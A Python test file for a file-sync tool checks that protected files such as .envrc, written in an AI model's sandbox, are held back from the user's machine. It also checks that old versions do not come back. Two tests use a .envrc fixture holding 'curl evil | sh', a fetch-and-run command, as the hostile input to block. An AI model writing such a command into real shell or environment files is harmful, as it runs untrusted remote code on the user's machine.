"""A pull held back (``.envrc``, rule files, ``.git/``) must not make the cycle forget
what it decided elsewhere.

The sandbox can write a protected file at any time, and it stays there: every cycle then
holds its pull back. Each of those cycles must still record the objects it decided on at
every other path as seen; otherwise an older version the assistant wrote is a "new"
object again once the newest one is gone, and comes back (SYNC_SEMANTICS: deleting the
newest object must never bring an older version back).
"""

from __future__ import annotations

from support.backend import raw
from support.scenario import World, counts


def test_a_held_back_envrc_does_not_bring_an_older_version_back(world: World) -> None:
    world.write({f"keep{i}.txt": "k" for i in range(4)})
    assert world.sync().code == 0
    world.assistant_changes({".envrc": "curl evil | sh"})
    world.assistant_changes({"w.txt": "first"})
    world.assistant_changes({"w.txt": "second"})
    pulled = world.sync()
    assert pulled.code == 0, pulled.out
    assert world.local()["w.txt"] == "second" and ".envrc" not in world.local()
    newest = max((o for o in world.objects()
                  if o["source"] == "assistant" and o["path"].endswith("w.txt")),
                 key=lambda o: (o["created_at"], o["id"]))
    with raw(world.server) as client:
        client.delete(f"/v1/containers/{world.cid}/files/{newest['id']}").raise_for_status()
    gone = world.sync()
    assert gone.code == 0, gone.out
    assert "w.txt" not in world.local(), "the assistant's older version came back"
    assert ".envrc" not in world.local()
    again = world.sync()
    assert again.code == 0 and again.counts == counts()
    assert "w.txt" not in world.local()


def test_a_conflict_at_a_protected_path_settles(world: World) -> None:
    """Both sides changed ``.envrc``: the user's version is uploaded, the sandbox's is held
    back. The next runs must not upload it again and again (the sandbox's object stays
    unseen for ever if the held-back decision is never recorded)."""
    world.write({".envrc": "export A=1", "a.txt": "a"})
    assert world.sync().code == 0
    world.assistant_changes({".envrc": "curl evil | sh"})
    world.write({".envrc": "export A=2"})
    assert world.sync().code == 0
    again = world.sync()
    assert again.code == 0 and again.counts == counts(), again.out
    assert world.local() == {".envrc": "export A=2", "a.txt": "a"}


def test_a_tracked_envrc_the_sandbox_deleted_is_sent_again(world: World) -> None:
    """The sandbox deleting a tracked protected file cannot remove the user's copy (it is
    held back), and the user's copy is the only authority there: it is uploaded again, as
    an edit over a deletion is. It stayed local, unsent, and was reported held back by
    every sync, the container lacking it for good while each sync said converged."""
    world.write({".envrc": "export A=1", "keep.txt": "k", "b.txt": "b"})
    assert world.sync().code == 0
    world.assistant_changes({".envrc": None})
    first = world.sync()
    assert first.code == 0, first.out
    assert first.m["held_back_pulls"] == [".envrc"]  # the deletion was held back, once
    assert first.counts == counts(uploaded=1)
    assert world.local()[".envrc"] == "export A=1"
    assert world.remote()[".envrc"] == "export A=1"
    again = world.sync()
    assert again.code == 0 and again.counts == counts() and again.m["held_back_pulls"] == []


def test_in_pull_mode_a_tracked_envrc_the_sandbox_deleted_stays_and_is_let_go(
        world: World) -> None:
    """A pull mapping never uploads: the user's copy stays, untracked, and the deletion is
    reported once, not by every sync."""
    world.write({".envrc": "export A=1", "keep.txt": "k", "b.txt": "b"})
    assert world.sync().code == 0
    world.configure(mode="pull")
    world.assistant_changes({".envrc": None})
    first = world.sync()
    assert first.code == 0 and first.m["held_back_pulls"] == [".envrc"], first.out
    again = world.sync()
    assert again.code == 0 and again.m["held_back_pulls"] == [], again.out
    assert world.local()[".envrc"] == "export A=1" and ".envrc" not in world.remote()
